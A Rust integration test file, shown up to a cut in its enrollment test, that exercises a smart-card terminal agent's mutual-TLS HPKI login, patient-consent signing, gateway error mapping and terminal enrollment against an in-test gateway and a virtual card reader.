//! The terminal agent against an in-test gateway that implements the HPKI login contract
//! (mutual TLS, challenge, login with the signature checked against the certificate sent,
//! logout, status), the patient-consent contract (challenge, card signature checked against
//! the certificate sent, staff attestation), and an in-test enrollment listener.
//!
//! The card tests use the real path: pcscd + the vsmartcard vpcd reader `Virtual PCD 00 01`
//! (port 35964) + an in-process `VirtualCard`. Without pcscd and vsmartcard-vpcd they fail,
//! saying what is missing. Tests that use the reader take a lock (a static mutex in this binary
//! and an flock on `sekisho-vpcd-35964.lock` in the temp directory, for other test binaries that
//! drive the same reader). The consent test also puts a patient card (`sekisho-vcard
//! --patient-card`) in `Virtual PCD 00 00` (port 35963), under `sekisho-vpcd-35963.lock`.

mod common;

use std::collections::{HashMap, VecDeque};
use std::net::SocketAddr;
use std::os::fd::AsRawFd;
use std::os::unix::fs::PermissionsExt;
use std::path::{Path, PathBuf};
use std::sync::{Arc, Mutex, MutexGuard, PoisonError};
use std::time::{Duration, Instant};

use base64::Engine;
use base64::engine::general_purpose::{STANDARD as B64, URL_SAFE_NO_PAD as B64URL};
use common::{PIN, identities};
use http_body_util::{BodyExt, Full};
use hyper::body::{Bytes, Incoming};
use hyper::{Method, Request, Response, StatusCode};
use hyper_util::rt::TokioIo;
use rustls::pki_types::pem::PemObject;
use rustls::pki_types::{CertificateDer, PrivateKeyDer};
use sekisho_cardreader::agent::{
    self, AgentConfig, AgentError, ConsentBasis, EnrollOptions, LogoutReason, PinRequest,
    PinSource, RefusalCode, Retry, WatchEvent,
};
use sekisho_cardreader::hpki::Application;
use sekisho_cardreader::vcard::{CardEngine, PatientCardEngine, Quirks, VirtualCard};
use sekisho_cardreader::{CardError, PcscTransport, Transport, readers};
use serde::Deserialize;
use tokio::net::TcpListener;
use tokio::sync::mpsc::UnboundedReceiver;
use tokio::task::JoinHandle;
use x509_parser::prelude::FromDer;
use zeroize::Zeroizing;

const READER: &str = "Virtual PCD 00 01";
const PORT: u16 = 35964;

// ---------------------------------------------------------------- test PKI

struct Ca {
    params: rcgen::CertificateParams,
    key: rcgen::KeyPair,
    cert: rcgen::Certificate,
}

struct Issued {
    cert_pem: String,
    key_pem: String,
}

/// A patient card's certificate (the CA's profile, in short: CN, one patient URI) and key.
struct PatientCardFiles {
    cert_der: Vec<u8>,
    cert_pem: String,
    key_der: Vec<u8>,
    key_pem: String,
}

impl Ca {
    fn new(name: &str) -> Ca {
        let key = rcgen::KeyPair::generate_for(&rcgen::PKCS_ECDSA_P256_SHA256).unwrap();
        let mut params = rcgen::CertificateParams::new(Vec::<String>::new()).unwrap();
        params
            .distinguished_name
            .push(rcgen::DnType::CommonName, name);
        params.is_ca = rcgen::IsCa::Ca(rcgen::BasicConstraints::Unconstrained);
        params.key_usages = vec![
            rcgen::KeyUsagePurpose::KeyCertSign,
            rcgen::KeyUsagePurpose::CrlSign,
        ];
        let cert = params.self_signed(&key).unwrap();
        Ca { params, key, cert }
    }

    fn issuer(&self) -> rcgen::Issuer<'_, &rcgen::KeyPair> {
        rcgen::Issuer::from_params(&self.params, &self.key)
    }

    fn issue_patient_card(&self, patient: &str) -> PatientCardFiles {
        let key = rcgen::KeyPair::generate_for(&rcgen::PKCS_ECDSA_P256_SHA256).unwrap();
        let mut params = rcgen::CertificateParams::default();
        params
            .distinguished_name
            .push(rcgen::DnType::CommonName, "Sekisho patient card");
        params.subject_alt_names = vec![rcgen::SanType::URI(
            format!("urn:sekisho:patient:{patient}").try_into().unwrap(),
        )];
        params.key_usages = vec![rcgen::KeyUsagePurpose::DigitalSignature];
        let cert = params.signed_by(&key, &self.issuer()).unwrap();
        PatientCardFiles {
            cert_der: cert.der().to_vec(),
            cert_pem: cert.pem(),
            key_der: key.serialize_der(),
            key_pem: key.serialize_pem(),
        }
    }

    fn issue(&self, name: &str, sans: &[&str], server: bool) -> Issued {
        let key = rcgen::KeyPair::generate_for(&rcgen::PKCS_ECDSA_P256_SHA256).unwrap();
        let mut params =
            rcgen::CertificateParams::new(sans.iter().map(|s| s.to_string()).collect::<Vec<_>>())
                .unwrap();
        params
            .distinguished_name
            .push(rcgen::DnType::CommonName, name);
        params.extended_key_usages = vec![if server {
            rcgen::ExtendedKeyUsagePurpose::ServerAuth
        } else {
            rcgen::ExtendedKeyUsagePurpose::ClientAuth
        }];
        let cert = params.signed_by(&key, &self.issuer()).unwrap();
        Issued {
            cert_pem: cert.pem(),
            key_pem: key.serialize_pem(),
        }
    }
}

/// A deployment: its CA, the gateway's server certificate, a terminal's client certificate,
/// all written to a temp dir.
struct Pki {
    ca: Ca,
    server: Issued,
    dir: tempfile::TempDir,
}

impl Pki {
    fn new() -> Pki {
        // A name of its own: two deployments in one test must not look alike.
        let mut id = [0u8; 4];
        aws_lc_rs::rand::fill(&mut id).unwrap();
        let ca = Ca::new(&format!("Sekisho Test CA {id:02x?}"));
        let server = ca.issue("gateway", &["localhost", "127.0.0.1"], true);
        let terminal = ca.issue("urn:sekisho:terminal:F001:T001", &[], false);
        let dir = tempfile::tempdir().unwrap();
        std::fs::write(dir.path().join("ca.crt"), ca.cert.pem()).unwrap();
        std::fs::write(dir.path().join("T.crt"), &terminal.cert_pem).unwrap();
        std::fs::write(dir.path().join("T.key"), &terminal.key_pem).unwrap();
        Pki { ca, server, dir }
    }

    fn path(&self, name: &str) -> PathBuf {
        self.dir.path().join(name)
    }

    fn config(&self, gateway: SocketAddr) -> AgentConfig {
        AgentConfig {
            gateway: format!("https://{gateway}"),
            cert: self.path("T.crt"),
            key: self.path("T.key"),
            ca: self.path("ca.crt"),
            reader: Some(READER.to_string()),
        }
    }
}

fn provider() -> Arc<rustls::crypto::CryptoProvider> {
    Arc::new(rustls::crypto::aws_lc_rs::default_provider())
}

fn server_tls(pki: &Pki, client_auth: bool) -> Arc<rustls::ServerConfig> {
    let chain = vec![CertificateDer::from_pem_slice(pki.server.cert_pem.as_bytes()).unwrap()];
    let key = PrivateKeyDer::from_pem_slice(pki.server.key_pem.as_bytes()).unwrap();
    let builder = rustls::ServerConfig::builder_with_provider(provider())
        .with_safe_default_protocol_versions()
        .unwrap();
    let builder = if client_auth {
        let mut roots = rustls::RootCertStore::empty();
        roots.add(pki.ca.cert.der().clone()).unwrap();
        let verifier = rustls::server::WebPkiClientVerifier::builder_with_provider(
            Arc::new(roots),
            provider(),
        )
        .build()
        .unwrap();
        builder.with_client_cert_verifier(verifier)
    } else {
        builder.with_no_client_auth()
    };
    Arc::new(builder.with_single_cert(chain, key).unwrap())
}

// ---------------------------------------------------------------- in-test HTTPS server

type Handler = Arc<dyn Fn(Method, String, Bytes, bool) -> (u16, serde_json::Value) + Send + Sync>;

struct TestServer {
    addr: SocketAddr,
    task: JoinHandle<()>,
}

impl TestServer {
    /// Serves `handler` on 127.0.0.1:`port` (0: any); the handler is told whether the client
    /// presented a (verified) certificate.
    async fn start(tls: Arc<rustls::ServerConfig>, port: u16, handler: Handler) -> TestServer {
        let listener = TcpListener::bind(("127.0.0.1", port)).await.unwrap();
        let addr = listener.local_addr().unwrap();
        let acceptor = tokio_rustls::TlsAcceptor::from(tls);
        let task = tokio::spawn(async move {
            let mut conns = tokio::task::JoinSet::new();
            loop {
                let Ok((tcp, _)) = listener.accept().await else {
                    continue;
                };
                let acceptor = acceptor.clone();
                let handler = Arc::clone(&handler);
                conns.spawn(async move {
                    let Ok(tls) = acceptor.accept(tcp).await else {
                        return;
                    };
                    let client_cert = tls
                        .get_ref()
                        .1
                        .peer_certificates()
                        .is_some_and(|c| !c.is_empty());
                    let service = hyper::service::service_fn(move |req: Request<Incoming>| {
                        let handler = Arc::clone(&handler);
                        async move {
                            let method = req.method().clone();
                            let path = req.uri().path().to_string();
                            let body = req.into_body().collect().await?.to_bytes();
                            let (status, json) = handler(method, path, body, client_cert);
                            let mut resp = Response::new(Full::new(Bytes::from(json.to_string())));
                            *resp.status_mut() = StatusCode::from_u16(status).unwrap();
                            Ok::<_, hyper::Error>(resp)
                        }
                    });
                    let _ = hyper::server::conn::http1::Builder::new()
                        .serve_connection(TokioIo::new(tls), service)
                        .await;
                });
            }
        });
        TestServer { addr, task }
    }

    /// Stops listening and drops every connection.
    async fn stop(self) {
        self.task.abort();
        let _ = self.task.await;
    }
}

/// What the in-test gateway saw and decided.
#[derive(Default)]
struct GatewayState {
    challenges: HashMap<String, Vec<u8>>,
    challenges_issued: usize,
    /// The certificates of successful logins.
    logins: Vec<Vec<u8>>,
    logouts: Vec<(Instant, String)>,
    signed_in: bool,
    /// Refuse the next logins with this status and code.
    refuse: Option<(u16, &'static str)>,
    /// Requests that came without a client certificate (must stay 0).
    anonymous: usize,
    /// Consent: open challenges, how many were issued, the windows opened (patient, basis).
    consent_challenges: HashMap<String, Vec<u8>>,
    consent_challenges_issued: usize,
    consents: Vec<(String, String)>,
    /// Consent: whether staff attestation is allowed; a `to_sign` to send instead of a consent
    /// challenge (a hostile gateway).
    allow_attest: bool,
    consent_to_sign: Option<Vec<u8>>,
}

#[derive(Deserialize)]
#[serde(deny_unknown_fields)]
struct ConsentCardRequest {
    nonce: String,
    certificate: String,
    signature: String,
}

#[derive(Deserialize)]
#[serde(deny_unknown_fields)]
struct AttestRequest {
    patient: String,
}

/// The patient id of a card certificate's `urn:sekisho:patient:` URI.
fn patient_of(cert: &[u8]) -> Option<String> {
    let (_, x) = x509_parser::parse_x509_certificate(cert).ok()?;
    let san = x.subject_alternative_name().ok()??;
    san.value.general_names.iter().find_map(|n| match n {
        x509_parser::extensions::GeneralName::URI(u) => {
            u.strip_prefix("urn:sekisho:patient:").map(str::to_string)
        }
        _ => None,
    })
}

fn consent_window(patient: &str, basis: &str) -> (u16, serde_json::Value) {
    (
        200,
        serde_json::json!({"patient": patient, "basis": basis, "until": 1_900_000_000, "minutes": 30}),
    )
}

#[derive(Deserialize)]
#[serde(deny_unknown_fields)]
struct LoginRequest {
    nonce: String,
    certificate: String,
    signature: String,
}

fn refusal(status: u16, code: &str) -> (u16, serde_json::Value) {
    (
        status,
        serde_json::json!({"error": code, "message_en": format!("refused: {code}"), "message_ja": "拒否されました"}),
    )
}

/// The gateway's side of the contract, with the checks that matter: the nonce is one-time, the
/// signature verifies with the key of the certificate the agent sent.
fn gateway_handler(state: Arc<Mutex<GatewayState>>) -> Handler {
    Arc::new(move |method, path, body, client_cert| {
        let mut st = state.lock().unwrap_or_else(PoisonError::into_inner);
        if !client_cert {
            st.anonymous += 1;
            return refusal(401, "terminal_required");
        }
        match (method, path.as_str()) {
            (Method::POST, "/.sekisho/auth/hpki/challenge") => {
                let mut nonce = [0u8; 16];
                aws_lc_rs::rand::fill(&mut nonce).unwrap();
                let nonce = B64URL.encode(nonce);
                let to_sign =
                    format!("sekisho-hpki-login\ngateway=test\nnonce={nonce}").into_bytes();
                st.challenges.insert(nonce.clone(), to_sign.clone());
                st.challenges_issued += 1;
                (
                    200,
                    serde_json::json!({"nonce": nonce, "to_sign": B64.encode(&to_sign), "expires_in": 60}),
                )
            }
            (Method::POST, "/.sekisho/auth/hpki/login") => {
                let Ok(req) = serde_json::from_slice::<LoginRequest>(&body) else {
                    return refusal(400, "bad_request");
                };
                let Some(to_sign) = st.challenges.remove(&req.nonce) else {
                    return refusal(401, "challenge_invalid");
                };
                let cert = B64.decode(&req.certificate).unwrap();
                let signature = B64.decode(&req.signature).unwrap();
                let (_, x509) = x509_parser::parse_x509_certificate(&cert).unwrap();
                let spki = &x509.tbs_certificate.subject_pki.subject_public_key.data;
                if aws_lc_rs::signature::UnparsedPublicKey::new(
                    &aws_lc_rs::signature::RSA_PKCS1_2048_8192_SHA256,
                    spki,
                )
                .verify(&to_sign, &signature)
                .is_err()
                {
                    return refusal(401, "hpki_bad_signature");
                }
                if let Some((status, code)) = st.refuse {
                    return refusal(status, code);
                }
                st.logins.push(cert);
                st.signed_in = true;
                (
                    200,
                    serde_json::json!({"user": "yamada.taro", "name": "YAMADA TARO", "qualification": "Medical Doctor", "expires_at": 1_900_000_000}),
                )
            }
            (Method::POST, "/.sekisho/consent/challenge") => {
                if !body.is_empty() {
                    return refusal(400, "bad_request");
                }
                if !st.signed_in {
                    return refusal(403, "not_signed_in");
                }
                let mut nonce = [0u8; 16];
                aws_lc_rs::rand::fill(&mut nonce).unwrap();
                let nonce = B64URL.encode(nonce);
                let to_sign = st.consent_to_sign.clone().unwrap_or_else(|| {
                    format!("sekisho-patient-consent:v1\ngateway=test\nnonce={nonce}\n")
                        .into_bytes()
                });
                st.consent_challenges.insert(nonce.clone(), to_sign.clone());
                st.consent_challenges_issued += 1;
                (
                    200,
                    serde_json::json!({"nonce": nonce, "to_sign": B64.encode(&to_sign), "expires_in": 60}),
                )
            }
            (Method::POST, "/.sekisho/consent/card") => {
                let Ok(req) = serde_json::from_slice::<ConsentCardRequest>(&body) else {
                    return refusal(400, "bad_request");
                };
                if !st.signed_in {
                    return refusal(403, "not_signed_in");
                }
                let Some(to_sign) = st.consent_challenges.remove(&req.nonce) else {
                    return refusal(401, "challenge_expired");
                };
                let cert = B64.decode(&req.certificate).unwrap();
                let signature = B64.decode(&req.signature).unwrap();
                let Some(patient) = patient_of(&cert) else {
                    return refusal(403, "patient_card_invalid");
                };
                let (_, x509) = x509_parser::parse_x509_certificate(&cert).unwrap();
                let spki = &x509.tbs_certificate.subject_pki.subject_public_key.data;
                if aws_lc_rs::signature::UnparsedPublicKey::new(
                    &aws_lc_rs::signature::ECDSA_P256_SHA256_ASN1,
                    spki,
                )
                .verify(&to_sign, &signature)
                .is_err()
                {
                    return refusal(403, "patient_card_invalid");
                }
                if let Some((status, code)) = st.refuse {
                    return refusal(status, code);
                }
                st.consents.push((patient.clone(), "patient_card".into()));
                consent_window(&patient, "patient_card")
            }
            (Method::POST, "/.sekisho/consent/attest") => {
                let Ok(req) = serde_json::from_slice::<AttestRequest>(&body) else {
                    return refusal(400, "bad_request");
                };
                if !st.signed_in {
                    return refusal(403, "not_signed_in");
                }
                if !st.allow_attest {
                    return refusal(403, "attestation_not_allowed");
                }
                st.consents
                    .push((req.patient.clone(), "staff_attested".into()));
                consent_window(&req.patient, "staff_attested")
            }
            (Method::POST, "/.sekisho/auth/logout") => {
                let v: serde_json::Value = serde_json::from_slice(&body).unwrap();
                let reason = v["reason"].as_str().unwrap_or("?").to_string();
                st.logouts.push((Instant::now(), reason));
                let ended = std::mem::take(&mut st.signed_in);
                (200, serde_json::json!({"ended": ended}))
            }
            (Method::GET, "/.sekisho/auth/status") => {
                let s = st.signed_in;
                (
                    200,
                    if s {
                        serde_json::json!({"signed_in": true, "user": "yamada.taro", "name": "YAMADA TARO", "method": "hpki", "qualification": "Medical Doctor", "expires_at": 1_900_000_000})
                    } else {
                        serde_json::json!({"signed_in": false, "user": null, "name": null, "method": null, "qualification": null, "expires_at": null})
                    },
                )
            }
            _ => refusal(404, "not_found"),
        }
    })
}

async fn start_gateway(pki: &Pki, port: u16, state: &Arc<Mutex<GatewayState>>) -> TestServer {
    TestServer::start(
        server_tls(pki, true),
        port,
        gateway_handler(Arc::clone(state)),
    )
    .await
}

fn lock(state: &Mutex<GatewayState>) -> MutexGuard<'_, GatewayState> {
    state.lock().unwrap_or_else(PoisonError::into_inner)
}

// ---------------------------------------------------------------- the reader rig

/// Holds the second vpcd reader for one test.
struct Rig {
    _file: std::fs::File,
    _one: MutexGuard<'static, ()>,
}

fn rig() -> Rig {
    static ONE: Mutex<()> = Mutex::new(());
    let one = ONE.lock().unwrap_or_else(PoisonError::into_inner);
    let path = std::env::temp_dir().join(format!("sekisho-vpcd-{PORT}.lock"));
    let file = std::fs::OpenOptions::new()
        .create(true)
        .truncate(false)
        .write(true)
        .open(&path)
        .unwrap_or_else(|e| panic!("{}: {e}", path.display()));
    // SAFETY: flock on a descriptor we own; released when the file is closed.
    assert_eq!(unsafe { libc::flock(file.as_raw_fd(), libc::LOCK_EX) }, 0);
    ensure_pcscd();
    match PcscTransport::connect(READER) {
        Err(CardError::NoCard) | Err(CardError::Removed) | Err(CardError::Unresponsive) => {}
        Ok(_) => panic!("a card is already in {READER:?}: another virtual card holds port {PORT}"),
        Err(e) => panic!("{READER:?}: {e}"),
    }
    Rig {
        _file: file,
        _one: one,
    }
}

/// Starts pcscd if needed and waits for the vpcd reader; panics with the reason otherwise.
fn ensure_pcscd() {
    let has = |r: &Vec<String>| r.iter().any(|n| n == READER);
    if readers::list_readers().is_ok_and(|r| has(&r)) {
        return;
    }
    if readers::list_readers().is_err() {
        match std::process::Command::new("pcscd").status() {
            Ok(s) if s.success() => {}
            Ok(s) => panic!("pcscd exited with {s}; it must run as root with /run/pcscd writable"),
            Err(e) => panic!(
                "cannot start pcscd ({e}): install the Debian packages pcscd and vsmartcard-vpcd"
            ),
        }
    }
    let deadline = Instant::now() + Duration::from_secs(10);
    loop {
        match readers::list_readers() {
            Ok(r) if has(&r) => return,
            Ok(r) if Instant::now() > deadline => panic!(
                "pcscd runs but lacks {READER:?} (readers: {r:?}): install vsmartcard-vpcd and restart pcscd"
            ),
            Err(e) if Instant::now() > deadline => panic!("pcscd does not answer: {e}"),
            _ => std::thread::sleep(Duration::from_millis(200)),
        }
    }
}

/// When a card last left the reader. vpcd loses a card that connects again too soon after a
/// removal (pcscd then never reports it), so every insertion waits [`SETTLE`] after the last
/// removal. A rig quirk: a real reader sees a physical card whenever it comes.
static LAST_REMOVAL: Mutex<Option<Instant>> = Mutex::new(None);
const SETTLE: Duration = Duration::from_millis(1500);

async fn settle() {
    let last = *LAST_REMOVAL.lock().unwrap_or_else(PoisonError::into_inner);
    // Unknown (another test binary may just have removed one): wait the full pause.
    let wait = last.map_or(SETTLE, |t| SETTLE.saturating_sub(t.elapsed()));
    tokio::time::sleep(wait).await;
}

/// Inserts the card (after the settle pause) without waiting for PC/SC to see it.
async fn plug(engine: &Arc<Mutex<CardEngine>>) -> VirtualCard {
    settle().await;
    VirtualCard::connect(engine, ("127.0.0.1", PORT)).expect("insert the card")
}

fn new_engine() -> Arc<Mutex<CardEngine>> {
    Arc::new(Mutex::new(common::engine(Quirks::default())))
}

/// Inserts the card and waits until PC/SC can talk to it.
async fn insert(engine: &Arc<Mutex<CardEngine>>) -> VirtualCard {
    let card = plug(engine).await;
    let deadline = Instant::now() + Duration::from_secs(10);
    loop {
        let ok = tokio::task::spawn_blocking(|| PcscTransport::connect(READER).is_ok())
            .await
            .unwrap();
        if ok {
            return card;
        }
        assert!(
            Instant::now() < deadline,
            "the card did not appear in {READER}"
        );
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
}

async fn remove(card: VirtualCard) {
    tokio::task::spawn_blocking(move || card.disconnect().expect("remove the card"))
        .await
        .unwrap();
    *LAST_REMOVAL.lock().unwrap_or_else(PoisonError::into_inner) = Some(Instant::now());
}

async fn wait_gone() {
    let deadline = Instant::now() + Duration::from_secs(5);
    while tokio::task::spawn_blocking(|| PcscTransport::connect(READER).is_ok())
        .await
        .unwrap()
    {
        assert!(Instant::now() < deadline, "the card stays in {READER}");
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
}

// ---------------------------------------------------------------- tests without the reader

#[test]
fn csr_carries_only_the_key() {
    let key = agent::new_terminal_key().unwrap();
    let (_, pem) = x509_parser::pem::parse_x509_pem(key.csr_pem.as_bytes()).unwrap();
    assert_eq!(pem.label, "CERTIFICATE REQUEST");
    let (rest, csr) =
        x509_parser::certification_request::X509CertificationRequest::from_der(&pem.contents)
            .unwrap();
    assert!(rest.is_empty());
    let info = &csr.certification_request_info;
    // No name, no attributes, no extension request: only the key.
    assert_eq!(info.subject.iter().count(), 0, "subject: {}", info.subject);
    assert!(info.attributes().is_empty());
    assert!(csr.requested_extensions().is_none());
    // ECDSA P-256, the key that the PEM private key holds, and a valid self-signature.
    assert_eq!(
        info.subject_pki.algorithm.algorithm.to_id_string(),
        "1.2.840.10045.2.1"
    );
    assert_eq!(info.subject_pki.raw, key.public_key_der.as_slice());
    csr.verify_signature()
        .expect("the CSR's self-signature verifies");
    let pair = rcgen::KeyPair::from_pem(&key.key_pem).unwrap();
    assert_eq!(
        rcgen::PublicKeyData::subject_public_key_info(&pair),
        key.public_key_der
    );
    // A second key is a different key.
    assert_ne!(
        agent::new_terminal_key().unwrap().public_key_der,
        key.public_key_der
    );
}

#[test]
fn gateway_error_bodies_map_to_agent_errors() {
    let body = |code: &str| {
        serde_json::json!({"error": code, "message_en": "english", "message_ja": "日本語"})
            .to_string()
    };
    for (code, want) in [
        ("hpki_expired", RefusalCode::HpkiExpired),
        ("hpki_revoked", RefusalCode::HpkiRevoked),
        ("hpki_untrusted", RefusalCode::HpkiUntrusted),
        (
            "hpki_signature_certificate",
            RefusalCode::HpkiSignatureCertificate,
        ),
        ("hpki_bad_signature", RefusalCode::HpkiBadSignature),
        ("challenge_invalid", RefusalCode::ChallengeInvalid),
        ("user_unknown", RefusalCode::UserUnknown),
        ("user_suspended", RefusalCode::UserSuspended),
        ("account_locked", RefusalCode::AccountLocked),
        ("terminal_locked", RefusalCode::TerminalLocked),
        ("enroll_invalid", RefusalCode::EnrollInvalid),
        ("enroll_expired", RefusalCode::EnrollExpired),
        ("enroll_used", RefusalCode::EnrollUsed),
        ("enroll_locked", RefusalCode::EnrollLocked),
        ("enroll_bad_request", RefusalCode::EnrollBadRequest),
        ("not_signed_in", RefusalCode::NotSignedIn),
        ("patient_card_invalid", RefusalCode::PatientCardInvalid),
        ("patient_card_revoked", RefusalCode::PatientCardRevoked),
        (
            "patient_unknown_or_not_consented",
            RefusalCode::PatientUnknownOrNotConsented,
        ),
        (
            "attestation_not_allowed",
            RefusalCode::AttestationNotAllowed,
        ),
        ("challenge_expired", RefusalCode::ChallengeExpired),
    ] {
        let e = agent::gateway_error(403, body(code).as_bytes());
        let AgentError::Refused(r) = &e else {
            panic!("{code}: {e:?}")
        };
        assert_eq!(r.code, want);
        assert_eq!(r.code.as_str(), code);
        assert_eq!(r.status, 403);
        assert_eq!(e.exit_code(), 5);
        assert!(!e.to_string().is_empty() && !e.message_ja().is_empty());
        assert_eq!(
            e.is_transient(),
            code == "challenge_invalid" || code == "challenge_expired",
            "{code}"
        );
    }
    let e = agent::gateway_error(403, body("not_signed_in").as_bytes());
    assert!(e.to_string().contains("must sign in"), "{e}");
    assert!(e.message_ja().contains("ログイン"), "{}", e.message_ja());
    // Which of the two it is, neither message says.
    let e = agent::gateway_error(403, body("patient_unknown_or_not_consented").as_bytes());
    assert!(
        e.to_string().contains("not registered") && e.to_string().contains("no consent"),
        "{e}"
    );
    let e = agent::gateway_error(403, body("attestation_not_allowed").as_bytes());
    assert!(e.to_string().contains("--attest"), "{e}");
    let e = agent::gateway_error(403, body("hpki_expired").as_bytes());
    assert!(e.to_string().contains("expired"), "{e}");
    assert!(e.message_ja().contains("有効期限"), "{}", e.message_ja());
    let e = agent::gateway_error(403, body("hpki_revoked").as_bytes());
    assert!(e.to_string().contains("revoked"), "{e}");
    let e = agent::gateway_error(410, body("enroll_used").as_bytes());
    assert!(e.to_string().contains("already been used"), "{e}");

    // An unknown code keeps the gateway's words, cleaned of control characters.
    let odd = serde_json::json!({"error": "new_rule", "message_en": "no \u{1b}[31mway", "message_ja": "だめ"});
    let e = agent::gateway_error(403, odd.to_string().as_bytes());
    assert_eq!(e.refusal(), Some(&RefusalCode::Other("new_rule".into())));
    assert!(e.to_string().contains("no  [31mway"), "{e}");
    assert!(!e.to_string().contains('\u{1b}'));
    assert_eq!(e.message_ja(), "だめ");

    // Not JSON: a protocol error naming the status; 5xx is worth retrying.
    let e = agent::gateway_error(502, b"<html>Bad Gateway</html>");
    assert!(
        matches!(
            e,
            AgentError::Protocol {
                status: Some(502),
                ..
            }
        ),
        "{e:?}"
    );
    assert!(e.is_transient());
    assert!(!agent::gateway_error(400, b"").is_transient());
}

#[tokio::test]
async fn gateway_unreachable_untrusted_and_terminal_refused() {
    let pki = Pki::new();
    // Nothing listens: unreachable.
    let closed = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let addr = closed.local_addr().unwrap();
    drop(closed);
    let e = agent::status(&pki.config(addr)).await.unwrap_err();
    assert!(matches!(e, AgentError::Unreachable { .. }), "{e:?}");
    assert_eq!(e.exit_code(), 6);
    assert!(e.message_ja().contains("接続できません"));

    // A gateway whose certificate is from another CA.
    let other = Pki::new();
    let state = Arc::new(Mutex::new(GatewayState::default()));
    let server = start_gateway(&other, 0, &state).await;
    let e = agent::status(&pki.config(server.addr)).await.unwrap_err();
    assert!(matches!(e, AgentError::GatewayCertificate { .. }), "{e:?}");

    // The right gateway, but this terminal's certificate is from another CA.
    let mut cfg = other.config(server.addr);
    cfg.cert = pki.path("T.crt");
    cfg.key = pki.path("T.key");
    let e = agent::status(&cfg).await.unwrap_err();
    assert!(matches!(e, AgentError::TerminalRejected { .. }), "{e:?}");

    // And with everything right: not signed in.
    let s = agent::status(&other.config(server.addr)).await.unwrap();
    assert!(!s.signed_in);
    assert!(
        !agent::logout(&other.config(server.addr), LogoutReason::Logout)
            .await
            .unwrap()
    );
    assert_eq!(lock(&state).anonymous, 0);

    // Missing files and bad URLs are configuration errors.
    let mut cfg = other.config(server.addr);
    cfg.key = other.path("missing.key");
    let e = agent::status(&cfg).await.unwrap_err();
    assert!(matches!(e, AgentError::Config { .. }), "{e:?}");
    cfg = other.config(server.addr);
    cfg.gateway = format!("http://{}", server.addr);
    assert!(matches!(
        agent::status(&cfg).await.unwrap_err(),
        AgentError::BadUrl { .. }
    ));
    server.stop().await;
}

/// What the in-test enrollment listener answers about the tunnel.
#[derive(Clone, Default)]
enum TunnelReply {
    /// No WireGuard endpoint: nothing about a tunnel.
    #[default]
    None,
    /// A `wg-quick` file with the placeholder, as the gateway renders it.
    Config,
    /// `tunnel_error`.
    Error(&'static str),
    /// A `wg-quick` file that must be refused.
    Hostile(String),
}

/// The enrollment listener's state: whether the code is spent, what was sent, what to answer.
#[derive(Default)]
struct EnrollState {
    used: bool,
    csrs: Vec<String>,
    wg_public_keys: Vec<Option<String>>,
    tunnel: TunnelReply,
}

const GATEWAY_WG_KEY: &str = "BwcHBwcHBwcHBwcHBwcHBwcHBwcHBwcHBwcHBwcHBwc=";

/// A terminal's `wg-quick` file as the gateway renders it for a key made on the terminal.
fn gateway_wg_config() -> String {
    format!(
        "[Interface]\nPrivateKey = {}\nAddress = 10.77.0.5/32\n\n[Peer]\nPublicKey = {GATEWAY_WG_KEY}\n\
         Endpoint = 127.0.0.1:51820\nAllowedIPs = 10.77.0.1/32\nPersistentKeepalive = 25\n",
        agent::WG_PRIVATE_KEY_PLACEHOLDER
    )
}

/// The enrollment listener's side: redeem a code once, sign the CSR's key only.
fn enroll_handler(pki: Arc<Pki>, state: Arc<Mutex<EnrollState>>) -> Handler {
    Arc::new(move |method, path, body, _| {
        if method != Method::POST || path != "/enroll/csr" {
            return refusal(404, "not_found");
        }
        let v: serde_json::Value = serde_json::from_slice(&body).unwrap();
        if v["code"] != "ABCD-EFGH-JKMN" || v["pin"] != "12345678" {
            return refusal(403, "enroll_invalid");
        }
        let mut state = state.lock().unwrap();
        if std::mem::replace(&mut state.used, true) {
            return refusal(410, "enroll_used");
        }
        let csr_pem = v["csr"].as_str().unwrap();
        state.csrs.push(csr_pem.to_string());
        state
            .wg_public_keys
            .push(v["wg_public_key"].as_str().map(str::to_string));
        let mut csr = rcgen::CertificateSigningRequestParams::from_pem(csr_pem).unwrap();
        csr.params.distinguished_name = rcgen::DistinguishedName::new();
        csr.params
            .distinguished_name
            .push(rcgen::DnType::CommonName, "T001");
        let cert = csr.signed_by(&pki.ca.issuer()).unwrap();
        let mut answer = serde_json::json!({
            "terminal": "T001", "facility": "F001", "serial": "0a1b",
            "certificate": cert.pem(), "chain": pki.ca.cert.pem(), "not_after": 1_900_000_000
        });
        match &state.tunnel {
            TunnelReply::None => {}
            TunnelReply::Config => {
                answer["tunnel"] =
                    serde_json::json!({"address": "10.77.0.5", "config": gateway_wg_config()});
            }
            TunnelReply::Error(m) => answer["tunnel_error"] = serde_json::json!(m),
            TunnelReply::Hostile(config) => {
                answer["tunnel"] = serde_json::json!({"address": "10.77.0.5", "config": config});
            }
        }
        (200, answer)
    })
}

/// `echo KEY | wg pubkey` (wireguard-tools).
fn wg_pubkey(private_key: &str) -> String {
    use std::io::Write;
    let mut child = std::process::Command::new("wg")
        .arg("pubkey")
        .stdin(std::process::Stdio::piped())
        .stdout(std::process::Stdio::piped())
        .spawn()
        .expect("`wg` (wireguard-tools) is needed for this test");
    writeln!(child.stdin.take().unwrap(), "{private_key}").unwrap();
    let out = child.wait_with_output().unwrap();
    assert!(out.status.success(), "wg pubkey failed");
    String::from_utf8(out.stdout).unwrap().trim().to_string()
}

fn file_names(dir: &Path) -> Vec<String> {
    let mut names: Vec<String> = std::fs::read_dir(dir)
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .collect();
    names.sort();
    names
}

#[tokio::test]
async fn enroll_writes_key_certificate_and_ca() {
    let pki = Arc::new(Pki::new());
    let state = Arc::new(Mutex::new(EnrollState::default()));
    let server = TestServer::start(
        server_tls(&pki, false),
        0,
        enroll_handler(Arc::clone(&pki), Arc::clone(&state)),
    )
    .await;
    let out = tempfile::tempdir().unwrap();
    let opts = |code: &str, pin: &str, name: Option<&str>| EnrollOptions {
        enroll_url: format!("https://{}", server.addr),
        ca: pki.path("ca.crt"),
        code: code.to_string(),
        pin: Zeroizing::new(pin.to_string()),
        out: out.path().join("certs"),
        name: name.map(str::to_string),
    };

    let e = agent::enroll(&opts("ABCD-EFGH-JKMN", "00000000", None))
        .await
        .unwrap_err();
    assert_eq!(e.refusal(), Some(&RefusalCode::EnrollInvalid), "{e:?}");
    assert!(e.message_ja().contains("正しくありません"));

